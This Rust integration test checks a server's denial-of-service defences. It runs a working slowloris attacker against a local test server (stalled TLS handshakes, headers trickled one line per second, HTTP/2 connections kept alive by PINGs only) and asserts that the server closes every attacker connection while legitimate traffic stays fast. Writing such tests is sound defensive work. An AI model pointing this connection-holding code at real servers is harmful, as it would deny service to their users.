//! Slowloris on TCP: one address opens more connections than its share and
//! holds them without ever completing a request (TLS handshakes stalled,
//! h1 headers trickled, h2 connections kept busy with PINGs only), and
//! reconnects whenever the server closes one. Meanwhile h1, h2 and h3
//! legitimate loads from another address must all be served as fast as
//! when it is quiet.

mod attack_common;

use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use attack_common::{
    assert_attack_contained, attack_limits, sum_rounds, tls_connector, wait_for, AttackThread,
    LiveServer, ATTACKER, LOAD_CONNECTIONS,
};
use rustls::pki_types::ServerName;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;
use tokio_rustls::TlsConnector;
use tokio_util::sync::CancellationToken;

/// Attacker connections kept open at once, of each kind; together more than
/// the default per-peer share (512).
const PER_KIND: usize = 200;
const SLOTS: usize = 3 * PER_KIND;
/// Bounds on the whole attack.
const MAX_ATTACK_CONNECTIONS: u64 = 20_000;
const MAX_ATTACK_TIME: Duration = Duration::from_secs(120);
/// The attacker gives up on a connection the server never closes after this.
const HOLD_LIMIT: Duration = Duration::from_secs(30);
/// How often a trickling connection sends another header line or PING:
/// several times within the header timeout (4 s), so the timeout is shown
/// to bound complete headers, not silence. (The original slowloris tool
/// waits 15 s between lines.)
const TRICKLE_EVERY: Duration = Duration::from_secs(1);
/// The attacker's connection rate, evenly paced: every slot is open within
/// 1.5 s, well before the first timeout (4 s), so the legitimate runs
/// meet the whole attack in place. Unpaced, the attacker's own TLS
/// handshakes would come in bursts that, on a 2-core machine, compete with
/// the legitimate load for CPU the attacker shares with it, not the server.
const CONNECTS_PER_SECOND: u32 = 400;
/// A connection closed this fast was turned away (the 503 slots are full
/// too); its slot tries again after [`BACK_OFF`] rather than spinning.
const TURNED_AWAY: Duration = Duration::from_millis(100);
const BACK_OFF: Duration = Duration::from_secs(1);
/// The server's pause between telling a connection to close and closing it
/// (`CLOSE_GRACE` in tcp.rs), plus scheduling slack.
const CLOSE_SLACK: Duration = Duration::from_secs(3);
/// An attack round's connections are all open within this.
const RAMP_LIMIT: Duration = Duration::from_secs(10);

#[derive(Clone, Copy)]
enum Kind {
    /// Five bytes of a TLS record header, then nothing.
    StalledHandshake,
    /// TLS, then an h1 request line and one header line every half second.
    TrickledHeaders,
    /// TLS and the h2 preface, then only PINGs, never a request.
    IdleH2,
}

/// What the attacker saw.
#[derive(Default)]
struct Tally {
    /// Connections made (not counting ones the attacker could not open).
    opened: AtomicU64,
    closed_by_server: AtomicU64,
    open_now: AtomicUsize,
    /// Connections past their TLS handshake (or their stalled first bytes),
    /// now only holding their slot.
    holding: AtomicUsize,
    longest_ms: AtomicU64,
}

/// The slowloris attacker until stopped; stopping waits until the server
/// has closed every attacker connection (the attacker itself closes none).
fn launch_slowloris(server: &LiveServer) -> AttackThread<Tally> {
    let target = Target {
        addr: server.addr(),
        h1: tls_connector(&server.cert_pem(), b"http/1.1"),
        h2: tls_connector(&server.cert_pem(), b"h2"),
    };
    AttackThread::launch(move |stop, tally| attack(target, stop, tally))
}

#[derive(Clone)]
struct Target {
    addr: std::net::SocketAddr,
    h1: TlsConnector,
    h2: TlsConnector,
}

async fn attack(target: Target, stop: CancellationToken, tally: Arc<Tally>) {
    let kinds = [Kind::StalledHandshake, Kind::TrickledHeaders, Kind::IdleH2];
    let pace = Arc::new(Semaphore::new(0));
    tokio::spawn(pace_connections(pace.clone(), stop.clone()));
    let slots: Vec<_> = kinds
        .into_iter()
        .flat_map(|kind| std::iter::repeat_n(kind, PER_KIND))
        .map(|kind| {
            let attacker = Attacker {
                target: target.clone(),
                pace: pace.clone(),
                stop: stop.clone(),
                tally: tally.clone(),
            };
            tokio::spawn(attacker.slot(kind))
        })
        .collect();
    for slot in slots {
        slot.await.unwrap();
    }
}

/// Hands out [`CONNECTS_PER_SECOND`] connection attempts per second, evenly
/// spaced, until the attack stops.
async fn pace_connections(pace: Arc<Semaphore>, stop: CancellationToken) {
    let mut every = tokio::time::interval(Duration::from_secs(1) / CONNECTS_PER_SECOND);
    while !stop.is_cancelled() {
        every.tick().await;
        if pace.available_permits() == 0 {
            pace.add_permits(1);
        }
    }
    // Let every slot still waiting for a turn see the stop.
    pace.close();
}

/// What each attacker slot shares.
struct Attacker {
    target: Target,
    pace: Arc<Semaphore>,
    stop: CancellationToken,
    tally: Arc<Tally>,
}

impl Attacker {
    /// One attacker connection after another, until told to stop.
    async fn slot(self, kind: Kind) {
        let began_attack = Instant::now();
        while began_attack.elapsed() < MAX_ATTACK_TIME
            && self.tally.opened.load(Ordering::Relaxed) < MAX_ATTACK_CONNECTIONS
        {
            let Ok(turn) = self.pace.acquire().await else {
                return;
            };
            turn.forget();
            if self.stop.is_cancelled() {
                return;
            }
            let lifetime = self.hold_one(kind).await;
            if lifetime < TURNED_AWAY {
                tokio::time::sleep(BACK_OFF).await;
            }
        }
    }

    /// How long the connection lived.
    async fn hold_one(&self, kind: Kind) -> Duration {
        let tally = &self.tally;
        let opened = Instant::now();
        tally.opened.fetch_add(1, Ordering::Relaxed);
        tally.open_now.fetch_add(1, Ordering::Relaxed);
        let closed =
            tokio::time::timeout(HOLD_LIMIT, hold(kind, &self.target, &tally.holding)).await;
        tally.open_now.fetch_sub(1, Ordering::Relaxed);
        tally
            .longest_ms
            .fetch_max(opened.elapsed().as_millis() as u64, Ordering::Relaxed);
        if closed.is_ok() {
            tally.closed_by_server.fetch_add(1, Ordering::Relaxed);
        }
        opened.elapsed()
    }
}

/// Holds one connection of `kind` open until the server closes it.
async fn hold(kind: Kind, target: &Target, holding: &AtomicUsize) {
    let socket = TcpSocket::new_v4().unwrap();
    socket.bind((ATTACKER, 0).into()).unwrap();
    let Ok(mut tcp) = socket.connect(target.addr).await else {
        return;
    };
    if let Kind::StalledHandshake = kind {
        let _ = tcp.write_all(&[0x16, 0x03, 0x01, 0x02, 0x00]).await;
        let _holding = Holding::new(holding);
        return until_closed(&mut tcp).await;
    }
    let (tls, opening, every): (_, &[u8], &[u8]) = match kind {
        Kind::TrickledHeaders => (
            &target.h1,
            b"GET /health HTTP/1.1\r\nhost: localhost\r\n",
            b"x-trickle: 1\r\n",
        ),
        _ => (&target.h2, H2_PREFACE_AND_SETTINGS, H2_PING),
    };
    trickle(tls, tcp, opening, every, holding).await;
}

/// Counts a connection in [`Tally::holding`] while it lives.
struct Holding<'a>(&'a AtomicUsize);

impl<'a> Holding<'a> {
    fn new(holding: &'a AtomicUsize) -> Self {
        holding.fetch_add(1, Ordering::Relaxed);
        Self(holding)
    }
}

impl Drop for Holding<'_> {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::Relaxed);
    }
}

const H2_PREFACE_AND_SETTINGS: &[u8] =
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00";
const H2_PING: &[u8] = b"\x00\x00\x08\x06\x00\x00\x00\x00\x00slowlori";

/// TLS, `opening`, then `every` each [`TRICKLE_EVERY`] until the server closes.
async fn trickle(
    tls: &TlsConnector,
    tcp: TcpStream,
    opening: &[u8],
    every: &[u8],
    holding: &AtomicUsize,
) {
    let name = ServerName::try_from("localhost").unwrap();
    let Ok(stream) = tls.connect(name, tcp).await else {
        return;
    };
    let _holding = Holding::new(holding);
    let (mut reader, mut writer) = tokio::io::split(stream);
    tokio::select! {
        _ = until_closed(&mut reader) => {}
        _ = send_slowly(&mut writer, opening, every) => {}
    }
}

async fn send_slowly(writer: &mut (impl AsyncWrite + Unpin), opening: &[u8], every: &[u8]) {
    if writer.write_all(opening).await.is_err() {
        return;
    }
    loop {
        tokio::time::sleep(TRICKLE_EVERY).await;
        if writer.write_all(every).await.is_err() || writer.flush().await.is_err() {
            return;
        }
    }
}

/// Reads (and discards) until end of stream or an error.
async fn until_closed(reader: &mut (impl AsyncRead + Unpin)) {
    let mut buf = [0u8; 4096];
    while let Ok(1..) = reader.read(&mut buf).await {}
}

#[test]
fn slowloris_is_cut_off_while_every_protocol_is_served() {
    let limits = attack_limits();
    let share = limits.max_tcp_connections_per_peer;
    let longest_allowed = limits.handshake_timeout + limits.header_timeout + CLOSE_SLACK;
    let server = LiveServer::start(limits);
    let mut rounds = Vec::new();
    let mut comparisons = server.quiet_versus_attacks(None, 1, |_, measure| {
        let attack = launch_slowloris(&server);
        // Measure only once the attack is in place: every slot has made
        // its first connection and the admitted ones are past their
        // handshakes, so the ramp's burst of work is over.
        wait_for("the attacker holds its whole share", RAMP_LIMIT, || {
            attack.tally.opened.load(Ordering::Relaxed) >= SLOTS as u64
                && attack.tally.holding.load(Ordering::Relaxed) >= share
        });
        measure();
        // The legitimate load's last connections may still be closing.
        let (tcp_open, _) = server.open_connections();
        assert!(
            tcp_open <= share + LOAD_CONNECTIONS,
            "{tcp_open} TCP slots taken: more than the attacker's share of {share} and the load's {LOAD_CONNECTIONS}"
        );
        assert!(
            tcp_open >= share / 2,
            "the attack was no longer in force at the end of the measurement: {tcp_open} slots"
        );
        rounds.push(attack.stop());
    });
    let comparison = comparisons.pop().expect("one attack");

    let sum = |count: fn(&Tally) -> &AtomicU64| sum_rounds(&rounds, count);
    let (opened, closed) = (sum(|t| &t.opened), sum(|t| &t.closed_by_server));
    let longest = rounds
        .iter()
        .map(|t| Duration::from_millis(t.longest_ms.load(Ordering::Relaxed)))
        .max()
        .unwrap();
    let defence = server.defence();
    eprintln!(
        "attack: {opened} connections, {closed} closed by the server, longest {longest:?}; server: {defence:?}"
    );
    assert!(opened > SLOTS as u64, "the attacker re-opened connections");
    assert_eq!(
        closed, opened,
        "the server closed every attacker connection"
    );
    assert!(
        longest <= longest_allowed,
        "an attacker connection lived {longest:?}, over {longest_allowed:?}"
    );
    assert!(defence.handshake_timeouts > 0, "{defence:?}");
    assert!(defence.header_timeouts > 0, "{defence:?}");
    assert!(defence.tcp_busy + defence.tcp_closed > 0, "{defence:?}");

    assert_attack_contained(&comparison);
}
